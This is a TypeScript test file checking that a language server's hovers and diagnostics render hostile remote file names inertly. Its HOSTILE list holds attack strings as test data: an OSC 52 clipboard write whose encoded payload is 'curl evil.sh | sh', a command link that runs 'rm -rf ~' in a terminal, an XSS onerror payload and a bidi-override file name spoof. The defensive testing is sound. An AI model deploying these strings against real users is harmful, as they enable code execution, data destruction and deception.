/**
 * Remote names in the language server's answers, rendered by a real CommonMark renderer (markdown-it, with raw HTML
 * and bare-link detection on, so nothing is kinder than the editor): a hostile name shows as exactly what the one
 * display function shows, never as a link, a command, HTML, emphasis or a new block; diagnostics, which the editor
 * shows as plain text, carry no control or bidi character.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { displayName, displayText, hasUnsafe } from '../../src/shared/display';
import type { Checkpoint, Run } from '../../src/core/types';
import type { Analysis, Found } from '../../src/lsp/analysis';
import { hoverOf, problemOf } from '../../src/lsp/messages';
import { latestLine } from '../../src/lsp/features';
import { mdCode, mdText } from '../../src/lsp/markdown';

import { renderMarkdown } from '../harness/markdown';

const md = { render: renderMarkdown };

const HOSTILE = [
  'step_100\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007', // OSC 52: writes the clipboard
  '\u001b[2Jcleared',
  '\u001b]0;title\u0007',
  'evil\u202egnp.exe',
  'two\nlines',
  'over\rwrite',
  '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)',
  '![img](https://evil.example/x.png)',
  'back`tick',
  '``double``',
  '`',
  ' spaced ',
  '<img src=x onerror=alert(1)>',
  '<command:workbench.action.quit>',
  'https://evil.example/x',
  'www.evil.example',
  'who@evil.example',
  '**bold** _em_ ~~gone~~',
  '# heading',
  '1. item',
  'bad\udcff.bin',
  'bad\\xff.bin',
  '&lt;entity&gt;',
];

/** The text a reader sees in rendered HTML (tags dropped, entities decoded). */
function seen(html: string): string {
  return html
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&')
    .trim();
}

/** No link, image, HTML or markup from `src` in `html` (`**bold**` is the hovers' own: allowed with `ours`). */
function assertInert(html: string, src: string, ours = false): void {
  assert.doesNotMatch(html, /<a[\s>]/, `no link from ${JSON.stringify(src)}: ${html}`);
  assert.doesNotMatch(html, ours ? /<(img|em|s|del|h\d|ol|blockquote|script)[\s>]/ : /<(img|em|strong|s|del|h\d|ol|blockquote|script)[\s>]/, `no markup from ${JSON.stringify(src)}: ${html}`);
  assert.ok(ours || !/\*\*/.test(src) || !/<strong>/.test(html), 'no emphasis');
  // The renderer's own line breaks between blocks aside.
  assert.ok(!hasUnsafe(html.replace(/\n/g, '')), `no control or bidi character from ${JSON.stringify(src)}: ${JSON.stringify(html)}`);
}

test('mdCode: a hostile name is one code span showing exactly what displayName shows', () => {
  for (const name of HOSTILE) {
    const html = md.render(`- ${mdCode(name)} — 3.2 GB`);
    assertInert(html, name);
    const codes = [...html.matchAll(/<code>([\s\S]*?)<\/code>/g)];
    assert.equal(codes.length, 1, `one code span for ${JSON.stringify(name)}: ${html}`);
    assert.equal(seen(codes[0][1]).trim(), displayName(name).trim(), `shown as displayName shows it: ${JSON.stringify(name)}`);
    assert.ok(!mdCode(name).includes('\n'), 'one line');
  }
});

test('mdText: remote text shows as displayText shows it, with no link, markup or new block', () => {
  for (const text of [...HOSTILE, 'loss\n\n---\n# big', 'exp_avg, exp_avg_sq · 1.2 B params · optimizer: AdamW']) {
    const html = md.render(`contents: ${mdText(text)}`);
    assertInert(html, text);
    assert.doesNotMatch(html, /<(ul|hr|h\d|pre)[\s>]/, `no block from ${JSON.stringify(text)}: ${html}`);
    assert.equal(seen(html).replace(/\s+/g, ' '), `contents: ${displayText(text)}`.replace(/\s+/g, ' ').trim(), JSON.stringify(text));
  }
  // Words keep their underscores as they are (no emphasis can start inside a word): the hover source stays readable.
  assert.equal(mdText('exp_avg_sq'), 'exp_avg_sq');
});

const NOW = Date.UTC(2026, 0, 10, 12, 0, 0);

function hostileRun(name: string): { run: Run; checkpoint: Checkpoint } {
  const path = `/workspace/${name}`;
  const checkpoint = {
    name: `step_5${name}`,
    path: `${path}/step_5${name}`,
    kind: 'step',
    step: 5,
    isDir: true,
    bytes: 10,
    mtime: NOW,
    newest: true,
    files: [{ name: `${name}.pt`, path: `${path}/step_5${name}/${name}.pt`, bytes: 10, mtime: NOW }],
  } as unknown as Checkpoint;
  const run = { name, path, metrics: [`${path}/${name}.jsonl`], checkpoints: [checkpoint], live: false } as unknown as Run;
  return { run, checkpoint };
}

test('hovers over a checkpoint, a run, a folder and a glob whose names are hostile: inert, names as displayName shows them', () => {
  const place = { host: 'kpro6', target: 'pct:200' };
  for (const name of HOSTILE) {
    const { run, checkpoint } = hostileRun(name);
    const found = (n: string, type = 'd'): Found => ({ path: `/workspace/${n}`, name: n, type, bytes: 10, mtime: NOW });
    const analyses: Analysis[] = [
      { kind: 'exists', place, path: checkpoint.path, entry: { ...found(checkpoint.name), path: checkpoint.path }, children: [], files: 1, remoteNow: NOW, context: { run, checkpoint } },
      { kind: 'exists', place, path: run.path, entry: found(name), children: [found(checkpoint.name)], files: 1, remoteNow: NOW, context: { run } },
      { kind: 'exists', place, path: '/workspace', entry: found(''), children: [found(name), found(`${name}.pt`, 'f')], files: 2, remoteNow: NOW },
      { kind: 'glob', place, path: '/workspace/*', dir: '/workspace', dirState: 'ok', matches: [found(name)], oneLevelDown: [], dirChildren: [found(name)], truncated: false, remoteNow: NOW },
      { kind: 'missing', place, path: '/workspace/x/y', reason: 'path-missing', nearest: { path: '/workspace', children: [found(name)], runs: [] }, remoteNow: NOW },
      { kind: 'error', place, path: '/workspace/x', errorKind: 'protocol', message: `listing failed: ${name}` },
    ];
    for (const a of analyses) {
      const hover = hoverOf(a);
      assert.ok(hover, `a hover for ${a.kind}`);
      const html = md.render(hover);
      assertInert(html, name, true);
      assert.equal((html.match(/<strong>/g) ?? []).length, a.kind === 'exists' || a.kind === 'glob' ? 1 : 0, `only the hover's own bold: ${html}`);
      if (displayName(name).trim() !== '' && a.kind !== 'error') assert.ok(seen(html).includes(displayName(name).trim()), `${JSON.stringify(name)} shown as ${displayName(name)} in ${html}`);
      const problem = problemOf(a);
      if (problem) assert.ok(!hasUnsafe(problem.message), `a plain diagnostic without controls: ${JSON.stringify(problem.message)}`);
    }
    const latest = latestLine(5, { [name]: 0.5 });
    assertInert(md.render(latest!), name);
  }
});

test('a diagnostic that names what a folder holds shows hostile entries escaped, one line', () => {
  const place = { host: 'kpro6', target: 'host' };
  const children: Found[] = HOSTILE.map((n) => ({ path: `/w/${n}`, name: n, type: 'f', bytes: 1, mtime: NOW }));
  const message = problemOf({ kind: 'missing', place, path: '/w/nope', reason: 'path-missing', nearest: { path: '/w', children, runs: [] }, remoteNow: NOW })!.message;
  assert.ok(!hasUnsafe(message), JSON.stringify(message));
  assert.ok(!message.includes('\n'), 'one line');
  assert.match(message, /: \\x1b\[2Jcleared, \\x1b\]0;title\\x07, /);
});
